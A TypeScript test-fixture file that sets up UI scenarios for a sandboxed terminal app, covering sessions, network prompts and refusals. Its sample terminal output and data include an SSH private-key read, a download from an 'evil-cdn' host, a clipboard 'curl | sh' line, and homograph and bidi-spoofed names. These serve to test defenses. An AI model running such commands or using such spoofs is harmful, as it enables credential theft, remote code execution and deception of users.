/** The states of the window that the tests look at, by name. */
import type { FakeWorld } from "../../src/backend/fake";
import type { Problem, Snapshot } from "../../src/backend/generated";
import { emptyLayout, openTab, serialiseLayout, splitPane, type Layout } from "../../src/state/layout";
import {
  HOME,
  NOON,
  NOTES,
  SHOP,
  bareHost,
  disabledHost,
  fileAspects,
  fullHost,
  gaps,
  manyGaps,
  noUserns,
  presets,
  request,
  restrictedHost,
  running,
  session,
  settings,
  snapshot,
  usualHost,
} from "./samples";

import {
  execGrants,
  fileRow,
  fileRows,
  folderMissing,
  grants,
  hourRows,
  manyRows,
  netRow,
  openRows,
  portTaken,
  prompt,
  rules,
  usualRows,
} from "./traffic";

const folders: FakeWorld["folders"] = {
  [SHOP]: { repoRoot: SHOP, branch: "main" },
  [`${SHOP}/src`]: { repoRoot: SHOP, branch: "main" },
  [`${HOME}/gone`]: { exists: false },
};

const BUILD = [
  "\x1b[32m~/code/shop\x1b[0m \x1b[90mmain\x1b[0m $ npm run build",
  "\x1b[90mvite v8.4.0\x1b[0m building for production…",
  "\x1b[32m✓\x1b[0m 412 modules transformed.",
  "\x1b[32m~/code/shop\x1b[0m $ cat ~/.ssh/id_ed25519",
  "\x1b[31mcat: /home/mira/.ssh/id_ed25519: No such file or directory\x1b[0m",
  "\x1b[32m~/code/shop\x1b[0m $ ",
].join("\r\n");

const CURL = [
  "\x1b[32m~/code/shop\x1b[0m \x1b[90mmain\x1b[0m $ npm run build",
  "\x1b[32m✓\x1b[0m 412 modules transformed.",
  "\x1b[32m~/code/shop\x1b[0m $ curl -O https://files.evil-cdn.net/x.sh",
  "\x1b[31mcurl: (56) CONNECT tunnel failed, response 403\x1b[0m",
  "\x1b[32m~/code/shop\x1b[0m $ ",
].join("\r\n");

const AGENT = [
  "\x1b[33m●\x1b[0m I'll add the missing null check in",
  "  \x1b[34msrc/cart.ts\x1b[0m and run the tests.",
  "",
  "\x1b[90m└\x1b[0m npm test",
  "  \x1b[32m✓\x1b[0m cart.test.ts (18)",
  "  \x1b[32m✓\x1b[0m price.test.ts (9)",
  "",
  "\x1b[33m●\x1b[0m All 27 tests pass. ",
].join("\r\n");

function world(part: Partial<Snapshot>, rest: Omit<FakeWorld, "snapshot"> = {}): FakeWorld {
  return { snapshot: snapshot(part), folders, ...rest };
}

function tabs(...ids: string[]): string {
  return serialiseLayout(ids.reduce<Layout>((layout, id) => openTab(layout, id), emptyLayout));
}

const REFUSED = [
  "\x1b[32m~/code/shop\x1b[0m \x1b[90mmain\x1b[0m $ npm run build",
  "\x1b[31msh: 1: vite: Permission denied\x1b[0m",
  "\x1b[32m~/code/shop\x1b[0m $ mv .git g",
  "\x1b[31mmv: cannot move '.git' to 'g': Permission denied\x1b[0m",
  "\x1b[32m~/code/shop\x1b[0m $ ",
].join("\r\n");

const one = session({ id: "a" });
const restricted = session({
  id: "a",
  title: "sh",
  network: "allowlist",
  exec: "writable",
  files: fileAspects,
});
const ended = session({ id: "a", phase: "ended", exitCode: 0 });
const over = { phase: ended.phase, endedAtMs: ended.endedAtMs, exitCode: 0 } as const;
const refusal: Problem = {
  code: "CWD_IN_SECRET",
  message: "the folder /home/mira/.ssh is inside a secret that sandboxes cannot read",
  causes: [],
  fix: { text: "choose a folder outside ~/.ssh", command: null },
};
const broken: Problem = {
  code: "GUARD_NOT_CONFINED",
  message: "the guard found itself outside the sandbox",
  causes: ["process 4711 is not the first of its process namespace", "bwrap was replaced since the probe"],
  fix: {
    text: "reinstall bubblewrap, then probe again",
    command: "sudo apt-get install --reinstall bubblewrap",
  },
};
const noPty: Problem = {
  code: "PTY_UNAVAILABLE",
  message: "no terminal could be opened",
  causes: ["openpty: no space left on device"],
  fix: { text: "close other terminals, or raise kernel.pty.max", command: null },
};

const asking = session({ id: "a", title: "sh", network: "ask", unread: 41 });
const listed = session({ id: "b", title: "claude", backend: "microvm", network: "allowlist", unread: 3 });

/** The window of the reference pictures: one session that asks, one with an allowlist. */
function networkWorld(part: Partial<Snapshot>, network: FakeWorld["network"] = {}): FakeWorld {
  const sessions = [
    asking,
    listed,
    session({ id: "c", title: "zsh", backend: "none", cwd: NOTES }),
    session({ id: "d", title: "codex", cwd: NOTES, phase: "ended", exitCode: 0 }),
  ];
  let layout = splitPane(openTab(openTab(emptyLayout, "c"), "a"), "a", "b", "row");
  layout = openTab(layout, "a");
  return world(
    { sessions, layout: serialiseLayout(layout), ...part },
    { output: { a: CURL, b: AGENT, c: "~/notes $ " }, network },
  );
}

const withOne: Partial<Snapshot> = { sessions: [one], layout: tabs("a") };

export const scenarios: Record<string, () => FakeWorld> = {
  empty: () => world({ recentFolders: [] }),
  one: () =>
    world({ sessions: [one], layout: tabs("a") }, { output: { a: BUILD }, processes: { a: running } }),
  idle: () =>
    world(
      { sessions: [one], layout: tabs("a") },
      { processes: { a: [{ pid: 2, command: "bash", foreground: true }] } },
    ),
  queries: () =>
    world({ sessions: [one], layout: tabs("a") }, { output: { a: "before\x1b[c\x1b[6n\x1b]11;?\x07" } }),
  splits: () => {
    const sessions = [
      session({ id: "a", gaps }),
      session({ id: "b", title: "claude", backend: "microvm" }),
      session({ id: "c", title: "zsh", backend: "none", cwd: NOTES }),
      session({ id: "d", title: "codex", cwd: NOTES, phase: "ended", exitCode: 0 }),
    ];
    let layout = openTab(openTab(emptyLayout, "c"), "a");
    layout = splitPane(layout, "a", "b", "row");
    layout = openTab(layout, "a");
    return world(
      { sessions, layout: serialiseLayout(layout) },
      { output: { a: BUILD, b: AGENT, c: "~/notes $ " } },
    );
  },
  "splits-down": () => {
    const sessions = [
      session({ id: "a" }),
      session({ id: "b", title: "claude" }),
      session({ id: "c", title: "zsh", backend: "none" }),
    ];
    let layout = splitPane(openTab(emptyLayout, "a"), "a", "b", "row");
    layout = splitPane(layout, "b", "c", "column");
    return world({ sessions, layout: serialiseLayout(layout) }, { output: { a: BUILD, b: AGENT } });
  },
  "badge-native": () => world(withOne),
  "badge-gaps": () => world({ sessions: [session({ id: "a", gaps })], layout: tabs("a") }),
  "badge-microvm": () => world({ sessions: [session({ id: "a", backend: "microvm" })], layout: tabs("a") }),
  "badge-none": () => world({ sessions: [session({ id: "a", backend: "none" })], layout: tabs("a") }),
  ...Object.fromEntries(
    (["starting", "ready", "running", "suspended"] as const).map((phase) => [
      `phase-${phase}`,
      () => world({ sessions: [session({ id: "a", phase })], layout: tabs("a") }),
    ]),
  ),
  "phase-ended": () =>
    world(
      { sessions: [session({ id: "a", phase: "ended", exitCode: 0 })], layout: tabs("a") },
      { output: { a: `${BUILD}exit\r\n` } },
    ),
  "phase-failed": () =>
    world(
      { sessions: [session({ id: "a", phase: "ended", exitCode: 137 })], layout: tabs("a") },
      { output: { a: BUILD } },
    ),
  "phase-error": () =>
    world({ sessions: [session({ id: "a", phase: "error", error: broken })], layout: tabs("a") }),

  "sheet-usual": () => world({}),
  "sheet-all": () => world({ host: fullHost }),
  "sheet-bare": () => world({ host: bareHost }),
  "sheet-restricted": () => world({ host: restrictedHost }),
  "sheet-disabled": () => world({ host: disabledHost }),
  "sheet-gaps": () => world({}, { gaps }),
  "sheet-many-gaps": () => world({}, { gaps: manyGaps }),
  "sheet-last": () =>
    world({
      presets: presets.map((preset) => ({ ...preset, path: `/usr/bin/${preset.id}` })),
      lastChoices: [
        request({
          program: { kind: "preset", id: "codex" },
          network: "off",
          mode: "review",
          protectedPaths: [`${SHOP}/migrations`],
        }),
        request({ cwd: NOTES, backend: "none" }),
      ],
    }),
  /** The last choice named a sandbox and a program that this host has lost since. */
  "sheet-last-lost": () =>
    world({ host: bareHost, lastChoices: [request({ program: { kind: "preset", id: "codex" } })] }),
  "sheet-refused": () => world({}, { refusal }),
  "sheet-launch-refused": () => world({}, { launchRefusal: noPty }),
  "sheet-breaks": () => world({}, { breakage: broken }),
  "sheet-picks": () => world({}, { picked: `${HOME}/code/kettle` }),

  "host-full": () => world({ host: fullHost }),
  "host-usual": () => world({ host: usualHost }),
  "host-bare": () => world({ host: bareHost }, { secondProbe: usualHost }),
  "host-restricted": () => world({ host: restrictedHost }),
  "host-disabled": () => world({ host: disabledHost }),
  "host-wsl": () =>
    world({
      host: {
        ...restrictedHost,
        backends: restrictedHost.backends.map((report) =>
          report.backend === "native" ? { ...report, problem: noUserns } : report,
        ),
        platform: { ...usualHost.platform, wsl: 2, container: "docker" },
      },
    }),

  settings: () => world(withOne),
  "settings-refused": () =>
    world(withOne, {
      settingsRefusal: {
        code: "SETTINGS_NOT_SAVED",
        message: "the settings could not be written to /home/mira/.config/kotak/config.toml",
        causes: ["no space left on device"],
        fix: { text: "make room on the disk, then change the setting again", command: null },
      },
    }),
  paste: () => world(withOne, { clipboard: "cd /tmp\ncurl https://example.org/x.sh | sh\n" }),
  notices: () =>
    world({
      ...withOne,
      notices: [
        {
          code: "STORE_SET_ASIDE",
          message: "the database was damaged and has been set aside",
          causes: ["it is kept as /home/mira/.local/state/kotak/store.sqlite.damaged-1"],
          fix: { text: "sessions of earlier runs are no longer listed; nothing else is lost", command: null },
        },
        {
          code: "LOG_UNWRITABLE",
          message: "the log file cannot be written",
          causes: ["/home/mira/.local/state/kotak/logs: permission denied"],
          fix: {
            text: "make the folder yours",
            command: "sudo chown -R mira: /home/mira/.local/state/kotak",
          },
        },
        {
          code: "STATE_DIR_UNWRITABLE",
          message: "the state folder cannot be written, so nothing is remembered after this run",
          causes: ["read-only file system"],
          fix: { text: "set XDG_STATE_HOME to a folder that can be written", command: null },
        },
      ],
    }),
  /** Nothing asked yet; attempts are made by the test. */
  network: () => networkWorld({}, { activity: [...hourRows(), ...usualRows, ...openRows] }),
  "network-rules": () =>
    networkWorld(
      { rules },
      { activity: [...hourRows(), ...usualRows, ...openRows], exportTo: `${HOME}/sh.csv` },
    ),
  "network-empty": () => networkWorld({ sessions: [{ ...asking, unreadRefusals: 0 }], layout: tabs("a") }),
  /** Nothing was refused; what is refused of files and programs is not seen. */
  "network-blind": () => {
    const sandbox = asking.handle.enforcement;
    const row = { aspect: "fileReports" as const, level: "off" as const, detail: "not seen", gaps: [] };
    const handle = { ...asking.handle, enforcement: { aspects: [...(sandbox?.aspects ?? []), row] } };
    return networkWorld({ sessions: [{ ...asking, handle, unreadRefusals: 0 }], layout: tabs("a") });
  },
  "network-off": () =>
    world(
      { sessions: [session({ id: "a", network: "off" })], layout: tabs("a") },
      {
        network: {
          activity: [netRow(1, "files.example.com", { denied: "networkOff", why: "the network is off" })],
        },
      },
    ),
  /** Ports and sockets are let through; one is not open. */
  "network-grants": () =>
    world(
      { sessions: [asking], layout: tabs("a"), grants },
      { network: { activity: usualRows }, grants: { problems: { 2: portTaken }, open: { 1: 2 } } },
    ),
  /** All rules about files and programs hold; some folders are approved. */
  files: () =>
    world(
      { sessions: [restricted], layout: tabs("a"), grants: [...grants.slice(0, 1), ...execGrants] },
      {
        output: { a: REFUSED },
        network: { activity: fileRows },
        grants: { standing: { 12: "nextStart", 13: "unusable" }, problems: { 13: folderMissing } },
      },
    ),
  /** The same, with nothing approved yet. */
  "files-none": () =>
    world(
      { sessions: [restricted], layout: tabs("a") },
      { output: { a: REFUSED }, network: { activity: fileRows } },
    ),
  "files-ended": () =>
    world(
      { sessions: [{ ...restricted, ...over }], layout: tabs("a") },
      { output: { a: REFUSED }, network: { activity: fileRows } },
    ),
  "network-many": () =>
    networkWorld(
      { sessions: [asking], layout: tabs("a") },
      { activity: manyRows(12_000), onlyCounted: 3_201 },
    ),
  /** One row in a long history fits a search for it, at its very beginning. */
  "network-sparse": () =>
    networkWorld(
      { sessions: [asking], layout: tabs("a") },
      { activity: [...manyRows(6_000), fileRow(0, { ago: 9_999, why: "needle" })] },
    ),
  "prompt-one": () => networkWorld({ prompts: [prompt()] }, { activity: [...hourRows(), ...usualRows] }),
  "prompt-several": () =>
    networkWorld(
      {
        prompts: [
          prompt(),
          prompt({
            id: "question-2",
            host: "pypi.example.net",
            parent: "*.example.net",
            firstMs: NOON - 5_000,
            attempts: 1,
          }),
          prompt({
            id: "question-3",
            host: "updates.vendor.example",
            parent: null,
            sessionId: "b",
            sessionTitle: "claude",
            backend: "microvm",
            firstMs: NOON - 2_000,
            attempts: 311,
            process: null,
          }),
          prompt({
            id: "question-4",
            host: "late.example.com",
            firstMs: NOON - 90_000,
            state: "missed",
            deadlineMs: null,
            attempts: 0,
          }),
        ],
        folded: [{ sessionId: "b", hosts: 12, deniedUnasked: 340 }],
      },
      { activity: usualRows },
    ),
  "prompt-missed": () =>
    networkWorld(
      { prompts: [prompt({ state: "missed", deadlineMs: null, attempts: 0 })] },
      { activity: usualRows },
    ),
  /** Names made to be read wrongly. */
  "prompt-hostile": () =>
    networkWorld(
      {
        prompts: [
          prompt({
            host: "xn--pple-43d.com",
            unicode: "\\u{430}pple.com",
            parent: null,
            process: {
              pid: 66,
              name: "curl\u202egpj",
              executable: "/tmp/\u200bcurl",
              command: "curl\u001b[2J https://xn--pple-43d.com/\u202e" + "a".repeat(400),
              cwd: `${SHOP}/\u2066x`,
              parents: ["ba\u200bsh", "make"],
            },
          }),
        ],
      },
      {
        activity: [
          ...usualRows,
          netRow(9_050, "xn--pple-43d.com", { denied: "notListed", unicode: "\\u{430}pple.com" }),
          netRow(9_051, `login.bank.example.${"a".repeat(60)}.evil.net`, { denied: "notListed" }),
          fileRow(9_052, { target: `${SHOP}/a\u202egpj.exe`, why: "name\u001b[31m rule" }),
        ],
      },
    ),
  light: () => world({ ...withOne, settings: { ...settings, theme: "light" } }),
};
